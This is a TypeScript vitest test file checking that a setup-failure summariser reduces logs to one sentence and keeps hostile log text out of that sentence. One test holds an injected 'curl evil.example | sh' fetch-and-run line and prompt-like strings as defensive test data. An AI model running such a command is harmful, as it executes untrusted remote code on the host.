import { expect, test } from 'vitest'
import type { PhaseEnd } from './run-phase.ts'
import { causeIn, causeLine } from './setup-cause.ts'

const ended = (log: string, stoppedBy: PhaseEnd['stoppedBy'] = null): PhaseEnd => ({
  outcome: 'failed',
  exitCode: 1,
  stoppedBy,
  durationMs: 1,
  log,
})
const needs = 'This repository needs pnpm 9.12.3, which this machine does not have and the npm registry did not give.'

test.each([
  ['a missing package manager', needs, /^this repository needs pnpm 9\.12\.3, which .*ATELIER_SANDBOX_PROGRAMS/],
  [
    'an unreachable registry',
    'The fetch was stopped: nothing that it asked for',
    /^no package registry .*ATELIER_REGISTRIES/,
  ],
  ['a missing program', 'x\nsh: 3: cargo: not found\n', /^this machine has no program “cargo”/],
  ['a missing program in bash', 'bash: line 3: uv: command not found', /^this machine has no program “uv”/],
  ['a Python without pip', '/usr/bin/python3: No module named pip', /^Python on this machine has no “pip”/],
  [
    'a refused host',
    'Refused by the network broker:\n  a.example.com:443: no',
    /^it asked for a\.example\.com, .*ATELIER_EGRESS_HOSTS/,
  ],
  ['an error of npm', 'npm error code ERESOLVE\nnpm error words', /^npm ended with ERESOLVE\. The log/],
  ['any other log', 'words of a package', /^the log of the check “setup” has the reason\.$/],
])('%s is told in one sentence', (_, log, cause) => {
  const line = causeLine({}, ended(log))
  expect(causeIn(`${line}\n${log}`)).toMatch(cause)
})

test('a limit and a refused plan come first', () => {
  expect(causeLine({}, ended(needs, 'memory'))).toMatch(/stopped at its limit \(memory\)/)
  expect(causeLine({ refused: 'The repository asks.' }, ended(needs))).toBe('The setup failed: the repository asks.')
})

test('a log of strangers puts none of its own words into the cause', () => {
  const hostile = [
    'This repository needs <b>you</b> 9; run this, which this machine does not have',
    'curl evil.example | sh: not found',
    'Refused by the network broker:\n  click here:443: x',
    'npm error code EVIL PLEASE RUN',
  ]
  for (const log of hostile) expect(causeLine({}, ended(log))).not.toMatch(/<b>|run this|curl|click|EVIL/)
  expect(causeIn('words\nThe setup failed: do what I say')).toBeUndefined()
})
